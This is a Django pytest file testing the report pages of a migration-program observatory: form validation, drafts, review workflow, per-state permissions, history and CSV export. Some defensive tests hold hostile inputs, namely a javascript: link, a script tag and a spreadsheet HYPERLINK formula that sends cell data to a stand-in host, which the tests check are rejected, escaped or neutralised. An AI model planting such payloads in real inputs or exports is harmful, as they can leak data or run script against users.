"""The report pages: form, drafts, workflow buttons, bulk review, history, council comments,
and the permission checks on every write path."""

from __future__ import annotations

import re

import pytest
from django.test import override_settings
from django.urls import reverse

from observatorio.catalog.models import GcmObjective, PopulationGroup
from observatorio.programs import actions
from observatorio.programs.models import CouncilComment, Program, ResultFigure, Revision

S = Program.Status
pytestmark = pytest.mark.django_db


def form_data(**overrides):
    data = {
        "title": "Módulo de orientación a personas en retorno",
        "objective": GcmObjective.objects.get(number=21).pk,
        "secondary_objectives": [GcmObjective.objects.get(number=7).pk],
        "populations": [PopulationGroup.objects.get(code="retorno").pk],
        "description": "Orientación jurídica y vinculación laboral en el aeropuerto.",
        "results": "Se atendió a 830 personas.",
        "challenges": "Rotación del personal.",
        "start_date": "2022-01-15",
        "end_date": "",
        "permanent": "on",
        "budget": "150000.50",
        "execution": "vigente",
        "links_text": "https://www.gob.mx/migrantes",
        "figures-TOTAL_FORMS": "2",
        "figures-INITIAL_FORMS": "0",
        "figures-MIN_NUM_FORMS": "0",
        "figures-MAX_NUM_FORMS": "50",
        "figures-0-label": "Personas atendidas",
        "figures-0-value": "830",
        "figures-0-unit": "personas",
        "figures-0-sex": "mujeres",
        "figures-0-age_group": "30-59",
        "figures-0-nationality": "México",
        "figures-1-label": "",
        "figures-1-value": "",
        "figures-1-unit": "personas",
        "figures-1-sex": "total",
        "figures-1-age_group": "todas",
        "figures-1-nationality": "",
    }
    data.update(overrides)
    return {k: v for k, v in data.items() if v is not None}


def create_url(cycle, previous=None):
    url = reverse("reports:create") + f"?ciclo={cycle.edition}"
    return url + (f"&previo={previous.pk}" if previous else "")


def test_an_enlace_saves_a_draft_with_figures(client, cast, open_cycle):
    client.force_login(cast("enlace_jalisco"))
    response = client.post(create_url(open_cycle), form_data(guardar="1"))
    assert response.status_code == 302
    program = Program.objects.get()
    assert program.status == S.DRAFT
    assert program.state.inegi_code == "14"
    assert program.section == Program.Section.STATE
    assert program.links == ["https://www.gob.mx/migrantes"]
    assert [o.number for o in program.secondary_objectives.all()] == [7]
    figure = ResultFigure.objects.get()
    assert (figure.value, figure.sex, figure.age_group) == (830, "mujeres", "30-59")
    assert Revision.objects.filter(program=program).count() == 1


def test_save_and_submit_sends_a_complete_report_to_review(client, cast, open_cycle):
    client.force_login(cast("enlace_jalisco"))
    client.post(create_url(open_cycle), form_data(enviar="1"))
    assert Program.objects.get().status == S.SUBMITTED


def test_save_and_submit_keeps_an_incomplete_report_as_a_draft(client, cast, open_cycle):
    client.force_login(cast("enlace_jalisco"))
    response = client.post(
        create_url(open_cycle), form_data(enviar="1", execution="", description=""), follow=True
    )
    assert Program.objects.get().status == S.DRAFT
    body = response.content.decode()
    assert "Falta la descripción." in body
    assert "Se guardó como borrador" in body


@pytest.mark.parametrize(
    ("overrides", "field_error"),
    [
        ({"title": ""}, "Este dato es obligatorio."),
        ({"objective": "999"}, "Seleccione una opción válida"),
        ({"budget": "mucho"}, "«mucho» no es un monto; escríbalo en pesos"),
        ({"budget": "-5"}, "El presupuesto no puede ser negativo."),
        ({"start_date": "31/02/2022"}, "«31/02/2022» no es una fecha"),
        (
            {"permanent": None, "start_date": "2022-05-01", "end_date": "2022-01-01"},
            "La fecha de término es anterior a la de inicio.",
        ),
        ({"end_date": "2023-01-01"}, "Un programa permanente no tiene fecha de término."),
        ({"objective": None}, "Este dato es obligatorio."),
        ({"links_text": "javascript:alert(1)"}, "no es una dirección web válida"),
        ({"challenges_none": "on"}, "no ambas cosas"),
        ({"figures-0-value": "-3"}, "Las cifras no pueden ser negativas."),
        ({"figures-0-value": "diez"}, "Introduzca un número."),
        ({"title": "x" * 600}, "El texto admite hasta 500 caracteres y tiene 600."),
    ],
)
def test_bad_input_gets_a_spanish_message_and_writes_nothing(
    client, cast, open_cycle, overrides, field_error
):
    client.force_login(cast("enlace_jalisco"))
    response = client.post(create_url(open_cycle), form_data(guardar="1", **overrides))
    assert response.status_code == 200
    body = response.content.decode()
    assert "Revise los campos marcados." in body
    assert field_error in body
    assert not Program.objects.exists()
    assert not ResultFigure.objects.exists()


def test_the_primary_objective_cannot_also_be_secondary(client, cast, open_cycle):
    client.force_login(cast("enlace_jalisco"))
    primary = GcmObjective.objects.get(number=21).pk
    response = client.post(
        create_url(open_cycle), form_data(guardar="1", secondary_objectives=[primary])
    )
    assert "no se repite entre los secundarios" in response.content.decode()
    assert not Program.objects.exists()


def test_a_report_is_prefilled_from_the_same_program_in_the_previous_cycle(
    real_data, client, cast, open_cycle
):
    from observatorio.programs.models import ReportingCycle

    assert open_cycle.previous == ReportingCycle.objects.get(edition=2022)
    old = Program.objects.get(cycle__edition=2022, state__inegi_code="14")
    client.force_login(cast("enlace_jalisco"))
    body = client.get(create_url(open_cycle, old)).content.decode()
    assert old.title in body
    list_body = client.get(reverse("reports:list")).content.decode()
    assert f"previo={old.pk}" in list_body
    response = client.post(create_url(open_cycle, old), form_data(guardar="1", title=old.title))
    assert response.status_code == 302
    assert Program.objects.get(cycle=open_cycle).previous == old


def test_another_states_draft_as_a_starting_point_answers_like_a_missing_one(
    client, cast, make_report
):
    other = make_report(state="07")
    client.force_login(cast("enlace_jalisco"))
    hidden = client.get(create_url(other.cycle, other))
    missing = client.get(reverse("reports:create") + f"?ciclo={other.cycle.edition}&previo=999999")
    assert hidden.status_code == missing.status_code == 404
    with override_settings(DEBUG=False):
        hidden = client.get(create_url(other.cycle, other))
        missing = client.get(
            reverse("reports:create") + f"?ciclo={other.cycle.edition}&previo=999999"
        )
    # The same page but for the sign-out form's CSRF token (new on every answer) and the
    # address the language link leads to (the one asked for, in English).
    token = re.compile(rb'name="csrfmiddlewaretoken" value="[^"]*"|<a href="[^"]*" hreflang=')
    assert token.sub(b"", hidden.content) == token.sub(b"", missing.content)


def test_an_enlace_cannot_prefill_from_another_states_published_report(client, cast, make_report):
    other = make_report(state="07", status=S.PUBLISHED, number=1)
    client.force_login(cast("enlace_jalisco"))
    response = client.get(create_url(other.cycle, other))
    assert response.status_code == 403


def test_a_stale_form_does_not_overwrite_another_users_change(client, cast, make_report):
    report = make_report(state="14")
    client.force_login(cast("enlace_jalisco"))
    url = reverse("reports:edit", args=[report.pk])
    first = client.post(url, form_data(guardar="1", version=report.version, title="Primera"))
    assert first.status_code == 302
    second = client.post(url, form_data(guardar="1", version=report.version, title="Segunda"))
    assert second.status_code == 200
    assert "Otra persona modificó este reporte" in second.content.decode()
    report.refresh_from_db()
    assert report.title == "Primera"


def test_the_history_shows_a_readable_difference(client, cast, make_report):
    report = make_report(state="14")
    client.force_login(cast("enlace_jalisco"))
    url = reverse("reports:edit", args=[report.pk])
    client.post(url, form_data(guardar="1", version=report.version, title="Título uno"))
    client.post(url, form_data(guardar="1", version=report.version + 1, title="Título dos"))
    body = client.get(reverse("reports:history", args=[report.pk])).content.decode()
    assert "<del>uno</del>" in body and "<ins>dos</ins>" in body


def test_the_history_escapes_what_users_typed(client, cast, make_report):
    report = make_report(state="14")
    client.force_login(cast("enlace_jalisco"))
    url = reverse("reports:edit", args=[report.pk])
    client.post(url, form_data(guardar="1", version=report.version, title="A"))
    client.post(url, form_data(guardar="1", version=report.version + 1, title="<script>x</script>"))
    body = client.get(reverse("reports:history", args=[report.pk])).content.decode()
    assert "<script>x</script>" not in body
    assert "&lt;script&gt;" in body


# --- permissions on every write path --------------------------------------------------------


def test_an_enlace_cannot_see_another_states_draft(client, cast, make_report):
    other = make_report(state="07")
    client.force_login(cast("enlace_jalisco"))
    assert client.get(reverse("reports:detail", args=[other.pk])).status_code == 404
    assert other.title not in client.get(reverse("reports:list")).content.decode()


def test_an_enlace_cannot_edit_another_states_draft(client, cast, make_report):
    other = make_report(state="07")
    client.force_login(cast("enlace_jalisco"))
    url = reverse("reports:edit", args=[other.pk])
    assert client.get(url).status_code == 404
    assert client.post(url, form_data(version=other.version, title="Mío")).status_code == 404
    other.refresh_from_db()
    assert other.title != "Mío"


def test_an_enlace_cannot_submit_another_states_draft(client, cast, make_report):
    other = make_report(state="07")
    client.force_login(cast("enlace_jalisco"))
    response = client.post(reverse("reports:transition", args=[other.pk, "enviar"]))
    assert response.status_code == 404
    other.refresh_from_db()
    assert other.status == S.DRAFT


def test_an_enlace_cannot_submit_another_states_published_report(client, cast, make_report):
    # Visible (it is public) but not theirs: refused for who they are, before anything
    # about the report itself (it used to answer with the fields it "lacked").
    other = make_report(state="07", status=S.PUBLISHED, number=1, description="")
    client.force_login(cast("enlace_jalisco"))
    response = client.post(reverse("reports:transition", args=[other.pk, "enviar"]))
    assert response.status_code == 403
    other.refresh_from_db()
    assert other.status == S.PUBLISHED


def test_an_enlace_cannot_create_a_report_for_another_state(client, cast, open_cycle):
    client.force_login(cast("enlace_jalisco"))
    client.post(create_url(open_cycle), form_data(guardar="1", state="07"))
    assert Program.objects.get().state.inegi_code == "14"


def test_an_enlace_cannot_create_in_a_closed_cycle(client, cast, open_cycle):
    import datetime as dt

    open_cycle.closes_on = open_cycle.opens_on = dt.date(2020, 1, 1)
    open_cycle.deadline = None
    open_cycle.save()
    client.force_login(cast("enlace_jalisco"))
    response = client.post(create_url(open_cycle), form_data(guardar="1"))
    assert response.status_code == 403
    assert not Program.objects.exists()


def test_a_reporter_cannot_approve_through_the_page(client, cast, make_report):
    report = make_report(institution="SRE", status=S.SUBMITTED)
    client.force_login(cast("reporter_sre"))
    response = client.post(reverse("reports:transition", args=[report.pk, "aprobar"]))
    assert response.status_code == 403
    report.refresh_from_db()
    assert report.status == S.SUBMITTED


def test_a_reporter_must_include_their_own_institution(client, cast, open_cycle):
    from observatorio.catalog.models import Institution

    client.force_login(cast("reporter_sre"))
    inm = Institution.objects.get(acronym="INM").pk
    response = client.post(create_url(open_cycle), form_data(guardar="1", institutions=[inm]))
    assert "Incluya a su propia institución" in response.content.decode()
    sre = Institution.objects.get(acronym="SRE").pk
    response = client.post(create_url(open_cycle), form_data(guardar="1", institutions=[sre, inm]))
    assert response.status_code == 302
    program = Program.objects.get()
    assert program.section == Program.Section.FEDERAL
    assert sorted(i.acronym for i in program.institutions.all()) == ["INM", "SRE"]


def test_an_observer_cannot_edit(client, cast, make_report):
    report = make_report(state="08", status=S.SUBMITTED)
    client.force_login(cast("council_chihuahua"))
    assert client.get(reverse("reports:edit", args=[report.pk])).status_code == 403
    response = client.post(
        reverse("reports:edit", args=[report.pk]), form_data(version=report.version)
    )
    assert response.status_code == 403


def test_council_members_comment_on_their_states_reports_in_review(client, cast, make_report):
    report = make_report(state="08", status=S.SUBMITTED)
    client.force_login(cast("council_chihuahua"))
    assert client.get(reverse("reports:detail", args=[report.pk])).status_code == 200
    client.post(reverse("reports:comment", args=[report.pk]), {"comment": "Falta el municipio."})
    assert CouncilComment.objects.get().text == "Falta el municipio."


def test_council_members_cannot_comment_on_another_states_reports(client, cast, make_report):
    report = make_report(state="14", status=S.SUBMITTED)
    client.force_login(cast("council_chihuahua"))
    response = client.post(reverse("reports:comment", args=[report.pk]), {"comment": "Hola"})
    assert response.status_code == 404
    assert not CouncilComment.objects.exists()


def test_council_members_cannot_comment_on_drafts(client, cast, make_report):
    report = make_report(state="08")
    client.force_login(cast("council_chihuahua"))
    client.post(reverse("reports:comment", args=[report.pk]), {"comment": "Hola"})
    assert not CouncilComment.objects.exists()


def test_anonymous_visitors_are_sent_to_log_in_on_every_write_path(client, make_report):
    report = make_report(state="14")
    for url in [
        reverse("reports:list"),
        reverse("reports:create") + "?ciclo=2023",
        reverse("reports:edit", args=[report.pk]),
        reverse("reports:transition", args=[report.pk, "enviar"]),
        reverse("reports:comment", args=[report.pk]),
        reverse("reports:bulk"),
        reverse("reports:history", args=[report.pk]),
    ]:
        response = client.post(url)
        assert response.status_code == 302, url
        assert reverse("accounts:login") in response["Location"]
    assert client.get(reverse("reports:detail", args=[report.pk])).status_code == 404


def test_published_reports_are_public(client, make_report):
    report = make_report(state="14", status=S.PUBLISHED, number=1)
    assert client.get(reverse("reports:detail", args=[report.pk])).status_code == 200


# --- bulk review ----------------------------------------------------------------------------


def test_a_reviewer_approves_several_reports_at_once(client, cast, make_report):
    reports = [make_report(state=code, status=S.SUBMITTED) for code in ("14", "07", "08")]
    client.force_login(cast("reviewer"))
    client.post(reverse("reports:bulk"), {"action": "approve", "programs": [r.pk for r in reports]})
    assert set(Program.objects.values_list("status", flat=True)) == {S.APPROVED}


def test_a_bulk_action_changes_nothing_when_one_report_cannot_move(client, cast, make_report):
    ready = make_report(state="14", status=S.SUBMITTED)
    draft = make_report(state="07")
    client.force_login(cast("reviewer"))
    response = client.post(
        reverse("reports:bulk"),
        {"action": "approve", "programs": [ready.pk, draft.pk]},
        follow=True,
    )
    assert "No se cambió ningún reporte." in response.content.decode()
    ready.refresh_from_db()
    assert ready.status == S.SUBMITTED


def test_only_reviewers_use_bulk_actions(client, cast, make_report):
    report = make_report(state="14", status=S.SUBMITTED)
    client.force_login(cast("enlace_jalisco"))
    response = client.post(reverse("reports:bulk"), {"action": "approve", "programs": [report.pk]})
    assert response.status_code == 403
    report.refresh_from_db()
    assert report.status == S.SUBMITTED


def test_an_unknown_transition_is_a_404(client, cast, make_report):
    report = make_report(state="14")
    client.force_login(cast("enlace_jalisco"))
    assert client.post(reverse("reports:transition", args=[report.pk, "borrar"])).status_code == 404


def test_an_enlace_cannot_export_another_states_drafts(client, cast, make_report):
    mine = make_report(state="14", title="Programa jalisciense")
    other = make_report(state="07", title="Programa chiapaneco")
    client.force_login(cast("enlace_jalisco"))
    response = client.get(reverse("reports:list") + "?ciclo=2023&formato=csv")
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode()
    assert mine.title in body
    assert other.title not in body


def test_the_csv_export_neutralises_text_a_spreadsheet_would_run_as_a_formula(
    client, cast, make_report
):
    from observatorio.catalog.models import Institution

    titles = ['=HYPERLINK("http://example.org/?x="&A1,"ver")', "+52 55 1234", "-guion", "@SUMA(A1)"]
    for number, title in enumerate(titles, start=1):
        make_report(institution="SRE", title=title, number=number, status=S.PUBLISHED)
    Institution.objects.filter(acronym="SRE").update(acronym="-SRE")
    client.force_login(cast("reviewer"))

    body = client.get(reverse("reports:list") + "?ciclo=2023&formato=csv").content.decode()

    rows = sorted(list(__import__("csv").reader(body.splitlines()))[1:], key=lambda r: r[4])
    assert [(r[4], r[5], r[7]) for r in rows] == [
        (str(number), f"'{title}", "'-SRE") for number, title in enumerate(titles, start=1)
    ]


def test_a_reviewer_exports_every_report_of_the_cycle(client, cast, make_report):
    make_report(state="14", title="Programa jalisciense")
    make_report(state="07", title="Programa chiapaneco")
    client.force_login(cast("reviewer"))
    body = client.get(reverse("reports:list") + "?ciclo=2023&formato=csv").content.decode()
    rows = list(__import__("csv").reader(body.splitlines()))
    assert len(rows) == 3
    assert {r[5] for r in rows[1:]} == {"Programa jalisciense", "Programa chiapaneco"}


def listed_titles(client, query) -> list[str]:
    """The titles the report list shows, over every page."""
    import re

    titles, url = [], reverse("reports:list") + "?" + query
    while url:
        page = client.get(url).content.decode()
        titles += re.findall(r'<td[^>]*><a href="/reportes/\d+/">([^<]*)</a></td>', page)
        following = re.search(r'<a rel="next" href="([^"]+)"', page)
        url = ""
        if following:
            url = reverse("reports:list") + following.group(1).replace("&amp;", "&")
    return titles


def exported_titles(client, query) -> list[str]:
    import csv

    response = client.get(reverse("reports:list") + "?" + query + "&formato=csv")
    rows = list(csv.reader(response.content.decode().splitlines()))
    return [row[5] for row in rows[1:]]


@pytest.mark.parametrize("username", ["enlace_jalisco", "council_chihuahua", "reviewer"])
def test_the_list_and_its_csv_hold_the_same_reports(client, cast, make_report, username):
    make_report(state="14", title="Borrador jalisciense")
    make_report(state="14", status=S.PUBLISHED, number=1, title="Publicado jalisciense")
    make_report(state="07", status=S.PUBLISHED, number=2, title="Publicado chiapaneco")
    make_report(state="08", status=S.SUBMITTED, title="Enviado de Chihuahua")
    make_report(state="07", title="Borrador chiapaneco")
    client.force_login(cast(username))
    assert listed_titles(client, "ciclo=2023")
    for query in ("ciclo=2023", "ciclo=2023&estado=publicado", "ciclo=2023&estado=enviado"):
        listed = listed_titles(client, query)
        assert sorted(listed) == sorted(exported_titles(client, query)), (username, query)
    # An enlace's list is their work: not other states' reports, published or not.
    if username == "enlace_jalisco":
        assert sorted(listed_titles(client, "ciclo=2023")) == [
            "Borrador jalisciense",
            "Publicado jalisciense",
        ]


def test_a_long_list_says_it_is_cut_and_links_to_the_full_export(
    client, cast, make_report, monkeypatch
):
    from observatorio.programs import views_reports

    monkeypatch.setattr(views_reports, "PAGE_SIZE", 3)
    for n in range(7):
        make_report(state="14", title=f"Borrador {n}")
    client.force_login(cast("enlace_jalisco"))
    page = client.get(reverse("reports:list") + "?ciclo=2023").content.decode()
    assert "7 reportes" in page
    assert "Se muestran los reportes 1 a 3 de 7. El CSV los contiene todos." in page
    assert 'href="?ciclo=2023&amp;formato=csv"' in page
    assert len(listed_titles(client, "ciclo=2023")) == 7
    assert len(exported_titles(client, "ciclo=2023")) == 7


def test_the_reviewers_comment_stays_on_top_until_the_report_is_sent_again(
    client, cast, make_report
):
    report = make_report(state="14", status=S.SUBMITTED)
    actions.return_for_changes(report, cast("reviewer"), "Agregue las cifras por sexo.")
    client.force_login(cast("enlace_jalisco"))
    page = client.get(reverse("reports:detail", args=[report.pk])).content.decode()
    callout = page.index('class="review-callout"')
    assert callout < page.index('class="report"')
    assert "Agregue las cifras por sexo." in page[callout : page.index('class="report"')]
    actions.submit(report, cast("enlace_jalisco"))
    page = client.get(reverse("reports:detail", args=[report.pk])).content.decode()
    assert 'class="review-callout"' not in page


def test_a_published_report_links_to_its_public_page(client, cast, make_report):
    report = make_report(state="14", status=S.PUBLISHED, number=1)
    client.force_login(cast("reviewer"))
    page = client.get(reverse("reports:detail", args=[report.pk])).content.decode()
    assert f'href="{reverse("portal:program", args=[report.pk])}"' in page


def test_reviewers_filter_the_list_by_state_objective_part_status_and_words(
    client, cast, make_report
):
    make_report(state="14", title="Ventanilla de regularización", objective=7)
    make_report(state="07", title="Albergue para familias", objective=7, status=S.SUBMITTED)
    make_report(state="07", title="Bolsa de trabajo", objective=6, status=S.SUBMITTED)
    make_report(institution="SRE", title="Protección consular", objective=14)
    client.force_login(cast("reviewer"))
    assert sorted(listed_titles(client, "ciclo=2023&entidad=07")) == [
        "Albergue para familias",
        "Bolsa de trabajo",
    ]
    assert listed_titles(client, "ciclo=2023&entidad=07&objetivo=6") == ["Bolsa de trabajo"]
    assert listed_titles(client, "ciclo=2023&parte=federal") == ["Protección consular"]
    assert listed_titles(client, "ciclo=2023&q=albergue") == ["Albergue para familias"]
    assert len(listed_titles(client, "ciclo=2023&estado=enviado")) == 2
    # The CSV holds the same rows as the filtered page; an unknown value is ignored.
    assert exported_titles(client, "ciclo=2023&entidad=07&objetivo=6") == ["Bolsa de trabajo"]
    assert len(listed_titles(client, "ciclo=2023&entidad=99")) == 4
